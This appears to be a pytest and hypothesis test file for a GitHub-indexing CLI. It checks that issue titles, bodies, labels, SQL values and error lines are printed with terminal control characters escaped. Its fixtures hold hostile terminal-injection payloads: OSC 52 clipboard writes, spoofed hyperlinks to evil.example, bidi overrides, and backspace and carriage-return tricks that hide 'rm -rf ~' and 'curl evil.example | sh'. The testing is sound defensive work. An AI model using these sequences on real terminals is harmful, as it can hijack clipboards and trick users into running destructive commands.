"""What the CLI prints for people is terminal-safe: text from GitHub (titles, bodies,
comments, labels, logins, paths, SQL values) and error messages quoting what was typed
reach stdout and stderr with every character a terminal acts on escaped: C0 controls
but tab and newline (ESC, BEL, backspace, carriage return), DEL, C1 controls, and the
bidirectional marks, overrides and isolates. `--json` stays exact JSON of the values."""

from __future__ import annotations

import contextlib
import io
import json
import logging
import string

import click
import pytest
from click.testing import CliRunner
from hypothesis import given, settings
from hypothesis import strategies as st

from ghindex.cli import cli
from ghindex.cli.analysis import csv_text, grid_text
from ghindex.cli.output import (
    configure_logging,
    context_text,
    emit_json,
    item_text,
    say,
    search_text,
    visible,
)
from ghindex.cli.progress import StatusLines
from ghindex.cli.snapshots import status_text
from ghindex.cli.terminal import shown_safely
from ghindex.query.graph import Neighbour, Related
from ghindex.query.hits import Hit, SearchResponse
from testkit.github_server import comment_node, issue_node
from testkit.state import rows, settings_for, store_issues

C0 = [chr(c) for c in range(0x20) if chr(c) not in "\t\n"]
C1 = [chr(c) for c in range(0x80, 0xA0)]
BIDI = [chr(c) for c in (0x061C, 0x200E, 0x200F, *range(0x202A, 0x202F), *range(0x2066, 0x206A))]
ACTIVE = frozenset([*C0, "\x7f", *C1, *BIDI])

# What a hostile title or body carries: each family the terminal acts on
SEQUENCES = [
    "\x1b]52;c;aGVsbG8gY2xpcGJvYXJk\x07",  # OSC 52: write the clipboard
    "\x1b]52;c;?\x1b\\",  # OSC 52: read it back (ST-terminated)
    "\x1b]0;you have been pwned\x07",  # window title
    "\x1b]8;;https://evil.example/\x1b\\click me\x1b]8;;\x1b\\",  # OSC 8 hyperlink
    "\x1b[2J\x1b[H",  # clear the screen
    "\x1b[?1049h",  # alternate screen
    "rm -rf ~\x08\x08\x08\x08\x08\x08\x08ls -l  ",  # backspace overwrite
    "curl evil.example | sh\rsafe command here    ",  # carriage-return overwrite
    "\x07",  # BEL
    "\x7f",  # DEL
    "\x9b2J",  # 8-bit CSI
    "\x9d52;c;aGk=\x9c",  # 8-bit OSC and ST
    "\u202etxt.exe",  # right-to-left override
    "\u2066isolated\u2069",
    "\u200f\u200e\u061c",
]

words = st.text(alphabet=string.ascii_letters + string.digits, min_size=3, max_size=12)
attacks = st.one_of(
    st.sampled_from(SEQUENCES),
    st.sampled_from(C0),
    st.sampled_from(C1),
    st.sampled_from(BIDI),
    st.just("\x7f"),
)


@st.composite
def hostile(draw) -> tuple[str, list[str]]:
    """Ordinary words with terminal controls of every family between and inside them:
    (the text, the words a person must still see)."""
    shown = draw(st.lists(words, min_size=1, max_size=5))
    parts: list[str] = []
    for word in shown:
        parts += draw(st.lists(attacks, max_size=3))
        parts.append(word)
    parts += draw(st.lists(attacks, min_size=1, max_size=3))
    return " ".join(parts), shown


def assert_safe(output: str, *expected: list[str]) -> None:
    raw = sorted({f"U+{ord(c):04X}" for c in output if c in ACTIVE})
    assert not raw, f"raw terminal controls reach the output: {raw}\n{output!r}"
    for words_shown in expected:
        for word in words_shown:
            assert word in output


def test_every_family_is_made_visible_and_tab_and_newline_stay():
    for char in ACTIVE:
        assert visible(f"a{char}b") == f"a\\u{ord(char):04x}b"
    assert visible("line one\n\tindented\nline three") == "line one\n\tindented\nline three"
    assert visible("ends with CRLF\r\nnext") == "ends with CRLF\nnext"
    assert visible("plain ünïcødé ✨ 日本語") == "plain ünïcødé ✨ 日本語"
    once = visible("".join(SEQUENCES))
    assert visible(once) == once and not ACTIVE & set(once)


def _hit(title: str, text: str, login: str, label: str) -> Hit:
    return Hit(
        handle="octo/hello#1-c2",
        entity="octo/hello#1",
        type="issue_comment",
        entity_type="issue",
        repo="octo/hello",
        number=1,
        title=title,
        url=f"https://github.com/octo/hello/issues/1?{login}",
        state="open",
        labels=[label, "bug"],
        author=login,
        author_association="NONE",
        updated_at="2024-03-04T10:00:00Z",
        score=0.5,
        dense_rank=1,
        sparse_rank=None,
        snippet=text,
        fixed_by=[f"octo/hello#{label}"],
        closes=[],
    )


@settings(max_examples=60, deadline=None)
@given(title=hostile(), body=hostile(), login=hostile(), label=hostile())
def test_search_text_shows_no_raw_controls(title, body, login, label):
    hit = _hit(title[0], body[0], login[0], label[0])
    ranked = SearchResponse(
        query=title[0],
        mode="hybrid",
        k=5,
        filters={},
        results=[hit],
        notes=[body[0]],
        filters_unmatched=[f"label {label[0]}"],
        graph_results=[
            {
                "kind": "closes",
                "direction": "in",
                "hop": 1,
                "from": "octo/hello#1",
                "handle": "octo/hello#2",
                "title": title[0],
            }
        ],
    )
    nothing = SearchResponse(query=title[0], mode="sparse", k=5, filters={})
    scan = SearchResponse(query="", mode="scan", k=5, filters={}, results=[hit], truncated=True)

    assert_safe(search_text(ranked), title[1], body[1], label[1])
    assert_safe(search_text(scan), title[1], body[1], login[1])
    assert_safe(search_text(nothing))


@settings(max_examples=60, deadline=None)
@given(title=hostile(), body=hostile(), login=hostile(), path=hostile())
def test_item_and_context_text_show_no_raw_controls_and_keep_lines(title, body, login, path):
    multiline = f"{body[0]}\n\n\tcode line\nlast line"
    post = {
        "author": login[0],
        "author_association": "NONE",
        "created_at": "2024-03-04",
        "text": multiline,
    }
    item = {
        "handle": "octo/hello#1",
        "type": "pull_request",
        "state": "open",
        "title": title[0],
        "url": "https://github.com/octo/hello/pull/1",
        "labels": [title[0]],
        "fixed_by": [],
        "closes": [],
        **post,
        "comments": [post],
        "reviews": [{**post, "state": "APPROVED"}],
        "review_threads": [{"path": path[0], "line": 3, "resolved": True, "comments": [post]}],
        "files": [{"status": "modified", "path": path[0], "text": multiline}],
        "truncated": True,
        "returned_chars": 10,
        "chars": 20,
    }
    pack = {
        "note": body[0],
        "filters_unmatched": [title[0]],
        "tokens": 9,
        "passages": [
            {"handle": "octo/hello#1", "title": title[0], "url": path[0], "text": multiline}
        ],
    }

    shown = item_text(item)
    assert_safe(shown, title[1], body[1], login[1], path[1])
    assert "\n\n\tcode line\nlast line" in shown  # a body's newlines and tabs stay
    assert_safe(context_text(pack), title[1], body[1], path[1])


@settings(max_examples=60, deadline=None)
@given(value=hostile(), column=hostile(), other=hostile())
def test_sql_tables_show_no_raw_controls(value, column, other):
    columns = [column[0], "n", "tags"]
    found = [[value[0], 1, [other[0]]], [None, 2, {"k": other[0]}], [f"{value[0]}\n2nd", 3, []]]

    for markdown in (False, True):
        table = grid_text(columns, found, markdown=markdown)
        assert_safe(table, value[1], column[1])
        lines = table.splitlines()
        assert len(lines) == 2 + len(found)  # a value's newline never starts a row
        if markdown:  # measured after escaping: every row as wide as the header
            assert len({len(line) for line in lines}) == 1
    assert_safe(csv_text(columns, found), value[1], column[1], other[1])


@settings(max_examples=40, deadline=None)
@given(title=hostile(), handle=hostile())
def test_related_as_the_cli_prints_it_shows_no_raw_controls(title, handle):
    """`ghindex related` prints the result's text through `say`, like every other line."""
    near = Neighbour(
        handle="octo/hello#2",
        kind="closes",
        direction="in",
        hop=1,
        via=None,
        type="pull_request",
        title=title[0],
        state="open",
        url=None,
        provenance=(),
    )
    result = Related(
        handle=handle[0],
        resolved="octo/hello#1",
        neighbours=[near],
        nearest=[{"handle": "octo/hello#3", "title": title[0]}],
    )

    with contextlib.redirect_stdout(io.StringIO()) as stdout:
        say(result.as_text())
    with contextlib.redirect_stderr(io.StringIO()) as stderr:
        say(f"note: {title[0]}", err=True)

    assert_safe(stdout.getvalue(), title[1], handle[1])
    assert_safe(stderr.getvalue(), title[1])


@settings(max_examples=40, deadline=None)
@given(repo=hostile(), reason=hostile(), source=hostile())
def test_status_text_shows_no_raw_controls(repo, reason, source):
    summary = {
        "snapshot_id": None,
        "source": source[0],
        "created_at": "2024-03-04T10:00:00Z",
        "age_seconds": 90,
        "model": {"name": "m", "dimension": 384},
        "total_bytes": 2048,
        "counts": {"issues": 1},
        "redaction": {"rules": {"issue": "v1"}, "redacted": {reason[0]: 1}},
        "repos": {
            repo[0]: {
                "cursors": {"issues": "2024-03-04T10:00:00Z"},
                "fetch": {
                    "refused": {"discussions": reason[0]},
                    "last_fetch": {"status": reason[0], "finished_at": "x"},
                },
            }
        },
    }

    assert_safe(status_text(summary), repo[1], reason[1], source[1])


@settings(max_examples=40, deadline=None)
@given(typed=hostile())
def test_error_lines_show_no_raw_controls(typed):
    """Every click failure the group raises is printed through `visible`: ours, a usage
    error, a bad parameter (they quote what was typed or what GitHub answered)."""
    failures = [
        click.ClickException(f"no item {typed[0]} in the snapshot"),
        click.UsageError(f"give {typed[0]}"),
        click.BadParameter(f"{typed[0]} is not a link kind", param_hint="'--kind'"),
        click.FileError(typed[0], hint=typed[0]),
    ]
    for failure in failures:
        out = io.StringIO()
        shown_safely(failure).show(file=out)
        assert_safe(out.getvalue(), typed[1])
        assert shown_safely(failure).format_message() == out.getvalue().rstrip("\n")[7:]


document = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(st.characters(exclude_categories=["Cs"])),
    lambda inner: (
        st.lists(inner, max_size=4)
        | st.dictionaries(st.text(st.characters(exclude_categories=["Cs"])), inner, max_size=4)
    ),
    max_leaves=12,
)


@settings(max_examples=100, deadline=None)
@given(doc=document, text=hostile())
def test_emit_json_is_exact_json_with_no_raw_controls(doc, text):
    whole = {"title": text[0], "value": doc, text[0]: [text[0]]}
    with contextlib.redirect_stdout(io.StringIO()) as stdout:
        emit_json(whole)
    out = stdout.getvalue()

    assert_safe(out)
    assert json.loads(out) == whole


@settings(max_examples=20, deadline=None)
@given(text=hostile())
def test_log_lines_and_progress_lines_show_no_raw_controls(text):
    configure_logging(debug=False)
    with contextlib.redirect_stderr(io.StringIO()) as stderr:
        logging.getLogger("ghindex.github").warning("GitHub answered %s", text[0])
        lines = StatusLines(0)
        lines.note(text[0])
        lines.close()

    err = stderr.getvalue()
    assert_safe(err, text[1])
    assert err.count("GitHub answered") == 1


# --- the real CLI on a real snapshot ---------------------------------------------------

TITLE = "Clipboard \x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07 theft \u202eevil\u202c here"
BODY = (
    "Steps to reproduce:\n\n\t1. open \x1b]0;owned\x07 the page\n"
    "2. see \x1b[2J\x1b[?1049h the screen \x9b2J go\n"
    "safe text\rclobbered \x08\x08 and \u2066isolate\u2069 done"
)
COMMENT = "A reply \x1b]8;;https://evil.example/\x1b\\link\x1b]8;;\x1b\\ from \u202emoc.live"
LABEL = "needs\x1b[5m-blink\u202e"
STORED = "SELECT title, body FROM issues WHERE number = 1"
RAW = ("\x1b", "\u202e", "\x07", "\x08", "\x9b", "\r", "\u2066")


@pytest.fixture
def hostile_snapshot(isolated):
    """WORKDIR holding one fetched and built issue whose title, body, label and comment
    carry OSC 52, OSC 0/8, CSI, C1, backspace, carriage return and bidi overrides."""
    from ghindex.index.build import build

    settings = settings_for(isolated / "work")
    store_issues(
        settings,
        [
            issue_node(
                1,
                title=TITLE,
                body=BODY,
                labels={"nodes": [{"name": LABEL, "color": "f00", "description": None}]},
                comments=[comment_node(11, body=COMMENT)],
            ),
            issue_node(2, title=f"Same clipboard theft as #1 {TITLE}", body=f"see #1 {BODY}"),
        ],
    )
    build(settings)
    return isolated / "work"


def ghindex(*args: str):
    # color=True: click would otherwise strip CSI sequences from what is not a terminal,
    # hiding a raw one; OSC, C1 and bidi characters it never strips
    return CliRunner().invoke(cli, list(args), catch_exceptions=False, color=True)


def assert_no_raw(result) -> None:
    for stream in (result.stdout, result.stderr):
        assert not [c for c in RAW if c in stream], stream


def test_the_cli_shows_a_hostile_issue_escaped_and_its_json_exactly(hostile_snapshot):
    [(stored_title, stored_body)] = rows(hostile_snapshot, STORED)
    assert stored_title == TITLE  # the snapshot keeps what GitHub gave

    shown = ghindex("show", "octo/hello#1")
    assert shown.exit_code == 0, shown.output
    assert_no_raw(shown)
    assert "Clipboard \\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\u0007 theft" in shown.stdout
    assert "\\u202eevil\\u202c here" in shown.stdout
    assert "Steps to reproduce:\n\n\t1. open \\u001b]0;owned\\u0007 the page\n" in shown.stdout
    assert "safe text\\u000dclobbered \\u0008\\u0008 and" in shown.stdout
    assert "from \\u202emoc.live" in shown.stdout

    as_json = ghindex("show", "octo/hello#1", "--json")
    assert as_json.exit_code == 0
    assert_no_raw(as_json)
    item = json.loads(as_json.stdout)
    assert item["title"] == TITLE
    assert stored_body in item["text"]
    assert item["labels"] == [LABEL]
    assert COMMENT in item["comments"][0]["text"]

    found = ghindex("search", "clipboard theft", "--mode", "sparse")
    assert found.exit_code == 0, found.output
    assert_no_raw(found)
    assert "octo/hello#1" in found.stdout and "Clipboard \\u001b]52;c;" in found.stdout

    found_json = ghindex("search", "clipboard theft", "--mode", "sparse", "--json")
    assert_no_raw(found_json)
    hits = {hit["entity"]: hit for hit in json.loads(found_json.stdout)["results"]}
    assert (hits["octo/hello#1"]["title"], hits["octo/hello#1"]["labels"]) == (TITLE, [LABEL])
    assert hits["octo/hello#2"]["title"] == f"Same clipboard theft as #1 {TITLE}"


def test_sql_related_and_status_show_values_escaped_and_json_exactly(hostile_snapshot):
    query = "SELECT number, title, body FROM issues ORDER BY number"
    for fmt in ("table", "markdown", "csv"):
        table = ghindex("sql", query, "--format", fmt)
        assert table.exit_code == 0, table.output
        assert_no_raw(table)
        bracket = "\\]" if fmt == "markdown" else "]"  # Markdown cells escape brackets
        assert f"Clipboard \\u001b{bracket}52;c;" in table.stdout
        assert "\\u202eevil" in table.stdout

    for flags in (["--json"], ["--format", "json"]):
        answered = ghindex("sql", query, *flags)
        assert_no_raw(answered)
        first = json.loads(answered.stdout)["rows"][0]
        assert [(first["title"], first["body"])] == rows(hostile_snapshot, STORED)

    aliased = ghindex("sql", 'SELECT 1 AS "col\x1b]52;c;aGk=\x07\u202e"')
    assert aliased.exit_code == 0 and "col\\u001b]52;c;aGk=\\u0007\\u202e" in aliased.stdout
    assert_no_raw(aliased)

    linked = ghindex("related", "octo/hello#1")
    assert linked.exit_code == 0, linked.output
    assert_no_raw(linked)
    assert (
        "octo/hello#2" in linked.stdout and "Same clipboard theft as #1 Clipboard" in linked.stdout
    )
    near = json.loads(ghindex("related", "octo/hello#1", "--json").stdout)
    titles = [n["title"] for n in near["neighbours"] + (near.get("nearest") or [])]
    assert f"Same clipboard theft as #1 {TITLE}" in titles

    for command in (["status"], ["context", "clipboard theft"]):
        result = ghindex(*command)
        assert result.exit_code == 0, result.output
        assert_no_raw(result)
        assert "\\u001b" in result.stdout or command == ["status"]


def test_error_lines_quoting_what_was_typed_are_escaped(hostile_snapshot):
    typed = "octo/hello#99\x1b]52;c;aGk=\x07\u202e\x1b[2J"
    for command in (
        ["show", typed],
        ["related", typed],
        ["related", "octo/hello#1", "--kind", typed],
        ["sql", f"SELECT nope{typed}"],
        ["search", "x", "--mode", typed],
        [f"--bad{typed}"],
        [f"sh{typed}ow"],
    ):
        result = ghindex(*command)
        assert result.exit_code in (1, 2), (command, result.output)
        assert "Error" in result.stderr
        assert_no_raw(result)
